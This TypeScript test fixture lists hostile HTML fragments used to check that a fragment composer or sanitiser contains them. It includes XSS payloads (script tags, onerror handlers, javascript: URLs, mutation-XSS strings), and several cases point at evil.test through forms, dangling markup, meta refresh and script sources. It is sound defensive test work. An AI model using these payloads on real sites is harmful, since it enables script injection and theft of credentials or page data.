/** Fragments whose markup leaves its slot, or reaches for the page: each is tried trusted and untrusted. */
import type { HostileCase } from '../hostile-case.ts';

/** Markup that closes more than it opened. */
const closesTooMuch: Readonly<Record<string, string>> = {
  'one-div': '<p>x</p></div>',
  'many-divs': `<p>x</p>${'</div>'.repeat(30)}`,
  main: '<p>x</p></main>',
  body: '<p>x</p></body>',
  html: '<p>x</p></body></html>',
  p: '</p>',
  br: '</br>',
  heading: '<h2>x</h3>',
  form: '</form>',
  'table-parts': '</td></tr></tbody></table>',
  select: '</option></select>',
  head: '</head><body>',
  'in-the-wrong-order': '<div><span></div></span></div>',
  'then-opens-again': '</div><div data-slot="hostile"><p>x</p>',
  'by-svg': '<svg></div></svg>',
  'by-math': '<math><mi></div></mi></math>',
  'by-breakout': '<svg><p></svg></div>',
  'by-comment-trick': '<!--></div><!-- -->',
  'by-bang-comment': '<!-- --!></div><!-- -->',
  'by-cdata': '<![CDATA[ ></div> ]]>',
  'by-bogus-comment': '<? ></div> ?>',
  'by-script-comment': '<script><!--<script></script></script></div>',
  'by-title': '<svg><title></title></svg></div>',
  'by-attribute': '<p title="a>b"></div>',
  'by-attribute-without-quote': '<p title=a"></div><p title=">x</p>',
};

/** Markup that leaves something open, which would swallow or wrap what follows. */
const leavesOpen: Readonly<Record<string, string>> = {
  tag: '<div class="x"',
  'end-tag': '<p>x</p',
  'attribute-double': '<p title="',
  'attribute-single': "<p title='",
  'attribute-bare': '<a href=x',
  comment: '<!-- never ends',
  'comment-half': '<p>x</p><!',
  'comment-nearly': '<!-- x --',
  'bogus-comment': '<? x',
  doctype: '<!doctype html',
  cdata: '<svg><![CDATA[ x',
  script: '<script>var x = 1;',
  'script-in-comment': '<script><!-- <script>',
  style: '<style>p { color: red',
  textarea: '<textarea>x',
  title: '<title>x',
  xmp: '<xmp>x',
  iframe: '<iframe>',
  noembed: '<noembed>x',
  noframes: '<noframes>x',
  noscript: '<noscript><p>x',
  'noscript-comment': '<noscript><!-- </noscript>',
  plaintext: '<plaintext>x',
  template: '<template><p>x',
  table: '<table><tr><td>x',
  caption: '<table><caption>x',
  select: '<select><option>x',
  form: '<form><input>',
  button: '<button>x',
  a: '<a href="/x">x',
  b: '<b>x',
  font: '<font size=7>x',
  nobr: '<nobr>x',
  p: '<p>x',
  li: '<ul><li>x',
  dl: '<dl><dd>x',
  ruby: '<ruby><rt>x',
  details: '<details><summary>x',
  dialog: '<dialog open>x',
  object: '<object data="/x">',
  video: '<video><source src="/x">',
  svg: '<svg><circle r=1>',
  math: '<math><mi>x',
  'foreign-object': '<svg><foreignObject><p>x',
  div: '<div>x',
  'custom-element': '<my-thing>x',
  fieldset: '<fieldset><legend>x',
  marquee: '<marquee>x',
  heading: '<h1>x',
  'character-reference': '<p>x</p>&am',
  'less-than': '<p>x</p><',
  'self-closing-div': '<div/><p>x</p>',
  'self-closing-script': '<script src="/x.js"/>',
};

/** Elements and markup that reach beyond any slot by what they are. */
const reachesForThePage: Readonly<Record<string, { readonly markup: string; readonly elements?: readonly string[] }>> =
  {
    'whole-document': {
      markup:
        '<!doctype html><html lang="xx"><head><title>Taken</title></head><body class="taken" onload="x()"><p>x</p></body></html>',
    },
    'html-attributes': { markup: '<html class="taken" dir="rtl"><p>x</p>' },
    'body-attributes': { markup: '<body class="taken" onload="x()"><p>x</p>' },
    head: { markup: '<head><link rel="stylesheet" href="/x.css"></head><p>x</p>' },
    base: { markup: '<base href="https://evil.test/"><p>x</p>', elements: ['base'] },
    'base-target': { markup: '<base target="_top">', elements: ['base'] },
    'base-in-template': { markup: '<template><base href="https://evil.test/"></template><p>x</p>' },
    'base-in-svg-breakout': { markup: '<svg><base href="https://evil.test/"></svg>' },
    'meta-refresh': { markup: '<meta http-equiv="refresh" content="0;url=https://evil.test/">', elements: ['meta'] },
    'meta-refresh-in-capitals': {
      markup: '<META HTTP-EQUIV=Refresh CONTENT="0;url=https://evil.test/">',
      elements: ['meta'],
    },
    'meta-csp': {
      markup: '<meta http-equiv="content-security-policy" content="default-src \'none\'">',
      elements: ['meta'],
    },
    'meta-charset': { markup: '<meta charset="utf-16">', elements: ['meta'] },
    'meta-viewport': { markup: '<meta name="viewport" content="width=1">', elements: ['meta'] },
    'meta-referrer': { markup: '<meta name="referrer" content="unsafe-url">', elements: ['meta'] },
    title: { markup: '<title>Taken</title><p>x</p>' },
    frameset: { markup: '<frameset><frame src="/x"></frameset>', elements: ['frameset', 'frame'] },
    'import-map': { markup: '<script type="importmap">{"imports":{"x":"https://evil.test/"}}</script>' },
    'speculation-rules': {
      markup: '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.test/"]}]}</script>',
    },
    'second-main': { markup: '<main><p>x</p></main>' },
    'shadow-root': { markup: '<template shadowrootmode="open"><p>x</p></template>', elements: [] },
    'patch-template': { markup: '<template for="before"><p>patched</p></template>' },
    'patch-range': { markup: '<?start name="before"><p>patched</p><?end>' },
    'patch-react': { markup: '<div hidden id="S:0"><p>patched</p></div><script>$RC("B:0","S:0")</script>' },
    'patch-react-marks': { markup: '<!--$?--><template id="B:0"></template><p>x</p><!--/$-->' },
    'form-around-the-rest': { markup: '<form action="https://evil.test/"><div></form>' },
    'form-pointer': { markup: '<div><form action="https://evil.test/"></div></form>' },
    'table-foster-parent': { markup: '<table><div>out</div><tr><td>in</td></tr></table>' },
    'table-cell-alone': { markup: '<td>x</td>' },
    'table-row-alone': { markup: '<tr><td>x</td></tr>' },
    'option-alone': { markup: '<option>x</option>' },
    'image-tag': { markup: '<image src="/x">' },
    isindex: { markup: '<isindex prompt="x">' },
    'noah-formatting': { markup: '<p><b><b><b><b></p><p>x</p>' },
    'adoption-agency': { markup: '<a href="https://evil.test/"><p>x</a></p>' },
    'adoption-agency-deep': { markup: '<b><em><foo><foob><foob><foob><foob><fooc><foo><aside></b></em>' },
    'nested-anchors': { markup: '<a href="/1"><a href="/2">x</a></a>' },
    'nested-buttons': { markup: '<button><button>x</button></button>' },
    'duplicate-slot-name': { markup: '<div data-slot="after"><p>forged</p></div>' },
    'dom-clobbering': { markup: '<a id="document"></a><img name="querySelector"><input id="cookie">' },
    'mutation-xss-math': {
      markup: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    },
    'mutation-xss-noscript': { markup: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
    'mutation-xss-svg-style': { markup: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
    'mutation-xss-select': { markup: '<select><template><style><!--</select><img src=x onerror=alert(1)>-->' },
    'mutation-xss-form': { markup: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>' },
    'nul-in-element-name': { markup: '<di\0v>x' },
    'nul-in-comment-end': { markup: '<!-- -\0-></div>' },
    'carriage-returns': { markup: '<p>x</p>\r\r\n</div>\r' },
    'dangling-image': { markup: "<img src='https://evil.test/?" },
    'dangling-base-target': { markup: '<a href="https://evil.test/"><base target="' },
    'dangling-textarea-form': {
      markup: '<form action="https://evil.test/"><button>x</button><textarea name="secret">',
    },
  };

/** Markup that acts: harmless to the page's shape, but never to come from a fragment that is not trusted. */
const acts: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'script-source': '<script src="https://evil.test/x.js"></script>',
  'script-in-svg': '<svg><script>alert(1)</script></svg>',
  'script-in-template': '<template><script>alert(1)</script></template>',
  'script-in-math': '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  'script-split': '<scr<script>ipt>alert(1)</script>',
  handler: '<img src="x" onerror="alert(1)">',
  'handler-without-quotes': '<img src=x onerror=alert(1)>',
  'handler-after-slash': '<img/src=x/onerror=alert(1)>',
  'handler-in-capitals': '<IMG SRC=x ONERROR=alert(1)>',
  'handler-on-svg': '<svg onload="alert(1)"></svg>',
  'handler-on-custom-element': '<x-y onclick="alert(1)">x</x-y>',
  'javascript-url': '<a href="javascript:alert(1)">x</a>',
  'javascript-url-with-tab': '<a href="java\tscript:alert(1)">x</a>',
  'javascript-url-with-newline': '<a href="\njavascript:alert(1)">x</a>',
  'javascript-url-with-reference': '<a href="java&#115;cript:alert(1)">x</a>',
  'javascript-url-with-control': '<a href="\x01javascript:alert(1)">x</a>',
  'javascript-url-in-svg': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'javascript-url-in-animate': '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
  'javascript-url-in-form': '<form action="javascript:alert(1)"><button>x</button></form>',
  'javascript-url-in-button': '<button formaction="javascript:alert(1)">x</button>',
  'vbscript-url': '<a href="vbscript:msgbox(1)">x</a>',
  'data-url': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  iframe: '<iframe src="https://evil.test/"></iframe>',
  'iframe-srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="https://evil.test/"></object>',
  embed: '<embed src="https://evil.test/">',
  form: '<form action="https://evil.test/"><input name="password"></form>',
  'link-import': '<link rel="import" href="https://evil.test/">',
  'link-stylesheet': '<link rel="stylesheet" href="https://evil.test/x.css">',
};

const broken = { ...prefixed('closes', closesTooMuch), ...prefixed('open', leavesOpen) };

const brokenCases = Object.entries(broken).flatMap(([name, markup]) => inBothTrusts(name, `${markup}`, []));

const reachingCases = Object.entries(reachesForThePage).flatMap(([name, { markup, elements = [] }]) =>
  inBothTrusts(`reaches-${name}`, markup, elements),
);

const actingCases = Object.entries(acts).map(
  ([name, markup]): HostileCase => ({
    name: `acts-${name}`,
    shows: 'contained',
    fragment: { trust: 'sanitise' },
    behave: (exchange) => exchange.answer(markup),
  }),
);

/** Text that a careless composer takes for its own syntax. It has to come out letter for letter. */
const literal: Readonly<Record<string, string>> = {
  'replacement-patterns': "$& $` $' $1 $$ $<name>",
  'template-braces': '{name} {{name}} ${name} <%= name %> #{name}',
  'percent-escapes': '%3Cscript%3E %00 %0d%0a %s %n',
  backslashes: '\\u003cscript\\u003e \\0 \\\\',
  separators: 'line\u2028paragraph\u2029end',
  noncharacters: 'a\ufffeb\uffffc',
};

const literalCases = Object.entries(literal).map(
  ([name, text]): HostileCase => ({
    name: `text-${name}`,
    shows: 'content',
    text: `${text} {token}`,
    behave: (exchange) =>
      exchange.answer(`<p>${text.replaceAll('<', '&lt;').replaceAll('&l', '&l')} ${exchange.token}</p>`),
  }),
);

const textCases: readonly HostileCase[] = [
  ...literalCases,
  { name: 'text-without-elements', shows: 'content', behave: (exchange) => exchange.answer(exchange.token) },
  { name: 'text-bidi-override', shows: 'contained', behave: (exchange) => exchange.answer('<p>\u202e\u2067x</p>') },
  {
    name: 'text-combining-marks',
    shows: 'contained',
    behave: (exchange) => exchange.answer(`<p>x${'\u0301'.repeat(20_000)}</p>`),
  },
];

export const markupCases: readonly HostileCase[] = [...brokenCases, ...reachingCases, ...actingCases, ...textCases];

function inBothTrusts(name: string, markup: string, neverElements: readonly string[]): readonly HostileCase[] {
  return (['verbatim', 'sanitise'] as const).map((trust) => ({
    name: `${name}-${trust}`,
    shows: 'contained',
    neverElements,
    fragment: { trust },
    behave: (exchange) => exchange.answer(markup),
  }));
}

function prefixed<value>(prefix: string, entries: Readonly<Record<string, value>>): Readonly<Record<string, value>> {
  return Object.fromEntries(Object.entries(entries).map(([name, entry]) => [`${prefix}-${name}`, entry]));
}
